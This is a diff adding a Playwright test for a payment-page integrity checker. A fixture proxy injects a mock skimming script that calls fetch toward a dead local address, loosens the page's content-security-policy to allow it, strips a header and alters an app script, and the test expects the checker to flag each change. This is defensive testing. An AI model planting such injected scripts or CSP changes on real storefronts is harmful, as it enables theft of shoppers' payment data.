@@ -1,0 +1,98 @@
+import { execFile } from 'node:child_process';
+import { createHash } from 'node:crypto';
+import type { IncomingMessage, ServerResponse } from 'node:http';
+import { join } from 'node:path';
+import { expect } from '@playwright/test';
+import { test as ownStorefrontTest } from '../fixtures/own-storefront.ts';
+import { askOn, startServer } from '../fixtures/small-server.ts';
+import type { PayableSample, Store } from '../fixtures/store.ts';
+
+const workspace = join(import.meta.dirname, '../../..');
+
+/** A script as a thief would write it into the page, with leave to run, and an address to which it tells what is typed. */
+const stolen = 'fetch("http://127.0.0.1:9/stolen").catch(() => {})';
+const hash = `'sha256-${createHash('sha256').update(stolen).digest('base64')}'`;
+
+/** The store behind something that changes what shoppers receive, in every way at once. */
+const test = ownStorefrontTest.extend<{ changedStore: string }>({
+  changedStore: async ({ ownStorefront }, provide) => {
+    const { origin, stop } = await startServer((asked, answer) => void change(ownStorefront.origin, asked, answer));
+    await provide(origin);
+    await stop();
+  },
+});
+
+test.use({ storefrontVariables: { METRICS_TOKEN: 'watch' } });
+test.setTimeout(240_000);
+
+async function change(origin: string, asked: IncomingMessage, answer: ServerResponse): Promise<void> {
+  const given = await askOn(origin, asked, { ...asked.headers, 'accept-encoding': 'identity' });
+  const headers = { ...given.headers };
+  delete headers['permissions-policy'];
+  let content = Buffer.concat(await given.toArray());
+  const isApp = asked.url?.includes('/assets/wake-app-');
+  if (isApp) content = Buffer.concat([content, Buffer.from(';')]);
+  const policy = headers['content-security-policy'];
+  if (policy && asked.url?.endsWith('/payment')) {
+    content = Buffer.from(content.toString().replace('</body>', `<script>${stolen}</script></body>`));
+    headers['content-security-policy'] = String(policy)
+      .replace('script-src ', `script-src ${hash} `)
+      .replace('connect-src ', 'connect-src http://127.0.0.1:9 ');
+  }
+  answer.writeHead(given.statusCode ?? 502, { ...headers, 'content-length': content.length });
+  answer.end(content);
+}
+
+/** Runs the checker as whoever watches the store does. */
+function check(origin: string, { number, accountNumber }: PayableSample, { sandboxOrigin }: Store) {
+  const url = `${origin}/invoices/en-us`;
+  const words = ['run', '--silent', 'check:payment-page', '--', url, '--invoice', number, '--account', accountNumber];
+  const flags = `${sandboxOrigin}/flags`;
+  const env = {
+    ...process.env,
+    CARD_PROCESSOR: `${sandboxOrigin}/card-processor`,
+    LAUNCHDARKLY_CLIENT_ID: 'sandbox',
+    LAUNCHDARKLY_BASE_URL: flags,
+    LAUNCHDARKLY_STREAM_URL: flags,
+    LAUNCHDARKLY_EVENTS_URL: flags,
+  };
+  return new Promise<{ code: unknown; said: string }>((resolve) =>
+    execFile('npm', words, { cwd: workspace, env }, (error, said, complaint) =>
+      resolve({ code: error?.code ?? 0, said: said + complaint }),
+    ),
+  );
+}
+
+test('the payment page is as the build has it, from its first script to what it sends when it is left', async ({
+  ownStorefront,
+  takeInvoice,
+  store,
+}) => {
+  const { code, said } = await check(ownStorefront.origin, takeInvoice({ currency: 'USD' }), store);
+  expect(said).toMatch(/\/payment: \d\d scripts, \d\d requests\nAll as in the inventory\.\n$/);
+  expect(code).toBe(0);
+});
+
+test('whoever changes a script, a header, the policy, or has the page speak to others is found out', async ({
+  changedStore,
+  takeInvoice,
+  store,
+}) => {
+  const { code, said } = await check(changedStore, takeInvoice({ currency: 'USD' }), store);
+  const lines = said.split('\n').map((line) => line.split(/ {2,}/));
+  expect(lines.slice(1, -1)).toEqual([
+    ['What', 'Which', 'Expected', 'Found'],
+    ['script', 'in the page', 'nothing', `${hash.slice(1, -1)} ${stolen}`],
+    [
+      'script',
+      expect.stringMatching(/^\/assets\/wake-app-\S+\.js \(/),
+      expect.stringMatching(/^sha256-/),
+      expect.any(String),
+    ],
+    ['header', 'permissions-policy', expect.stringContaining('camera=()'), 'nothing'],
+    ['policy', 'script-src', 'nothing more', hash],
+    ['policy', 'connect-src', 'nothing more', 'http://127.0.0.1:9'],
+    ['connection', 'fetch', 'nothing', 'http://127.0.0.1:9/stolen'],
+  ]);
+  expect(code).toBe(1);
+});
